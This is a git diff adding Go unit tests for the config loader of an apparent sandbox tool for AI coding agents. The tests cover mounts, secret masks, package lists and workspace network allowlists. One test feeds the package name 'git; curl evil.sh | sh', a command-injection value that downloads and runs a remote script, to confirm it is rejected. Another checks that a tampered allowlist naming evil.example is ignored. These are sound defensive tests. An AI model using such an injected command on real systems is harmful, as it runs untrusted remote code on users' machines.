@@ -3,6 +3,7 @@ package config
 import (
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 )
 
@@ -104,3 +105,88 @@ agents:
 		t.Fatalf("expected default workspace 'myws', got %q", cfg.Settings.DefaultWorkspace)
 	}
 }
+
+func TestLoadProjectConfig(t *testing.T) {
+	dir := t.TempDir()
+	pc, err := LoadProjectConfig(dir)
+	if err != nil || len(pc.Mounts) != 0 || len(pc.Masks) != 0 {
+		t.Fatalf("without a file: %+v, %v", pc, err)
+	}
+
+	if err := os.MkdirAll(filepath.Join(dir, ".exitbox"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	write := func(content string) {
+		if err := os.WriteFile(ProjectConfigFile(dir), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("mounts:\n  - source: ~/.ssh\n    target: ~/.ssh\n    sensitive: true\nmasks:\n  - \"secrets/**\"\n  - \"*.pem\"\n")
+	pc, err = LoadProjectConfig(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(pc.Mounts) != 1 || !pc.Mounts[0].Sensitive || pc.Mounts[0].Target != "~/.ssh" || len(pc.Masks) != 2 {
+		t.Errorf("config = %+v", pc)
+	}
+
+	write("maks:\n  - \"*.pem\"\n")
+	if _, err := LoadProjectConfig(dir); err == nil {
+		t.Error("expected an error for an unknown key")
+	}
+
+	write("workspace: work\npackages: [postgresql-client, \"nodejs>=20\"]\nresources:\n  memory: 4g\nagent: claude\nagent_args:\n  claude: [--model, opus]\n")
+	pc, err = LoadProjectConfig(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if pc.Workspace != "work" || len(pc.Packages) != 2 || pc.Resources.Memory != "4g" || pc.Agent != "claude" || len(pc.AgentArgs["claude"]) != 2 {
+		t.Errorf("config = %+v", pc)
+	}
+
+	write("packages: [\"git; curl evil.sh | sh\"]\n")
+	if _, err := LoadProjectConfig(dir); err == nil {
+		t.Error("expected an error for an invalid package name")
+	}
+}
+
+func TestWorkspaceAllowlistsAreHostOnly(t *testing.T) {
+	origHome := Home
+	Home = t.TempDir()
+	defer func() { Home = origHome }()
+
+	// An older config.yaml with an allowlist is migrated on first load.
+	legacy := "version: 1\nworkspaces:\n  items:\n    - name: work\n      allowlist:\n        custom: [git.internal.example]\n"
+	if err := os.WriteFile(ConfigFile(), []byte(legacy), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if w := cfg.Workspaces.Items[0].Allowlist; w == nil || len(w.Custom) != 1 {
+		t.Fatalf("migrated allowlist = %+v", w)
+	}
+	if err := SaveConfig(cfg); err != nil {
+		t.Fatal(err)
+	}
+	if data, _ := os.ReadFile(ConfigFile()); strings.Contains(string(data), "allowlist") {
+		t.Errorf("config.yaml still holds the allowlist:\n%s", data)
+	}
+
+	// From then on, allowlists written to config.yaml are ignored.
+	tampered := "version: 1\nworkspaces:\n  items:\n    - name: work\n      allowlist:\n        custom: [evil.example]\n    - name: other\n      allowlist:\n        replace: true\n"
+	if err := os.WriteFile(ConfigFile(), []byte(tampered), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = LoadConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if w := cfg.Workspaces.Items[0].Allowlist; w == nil || len(w.Custom) != 1 || w.Custom[0] != "git.internal.example" {
+		t.Errorf("work allowlist = %+v", w)
+	}
+	if w := cfg.Workspaces.Items[1].Allowlist; w != nil {
+		t.Errorf("other allowlist = %+v", w)
+	}
+}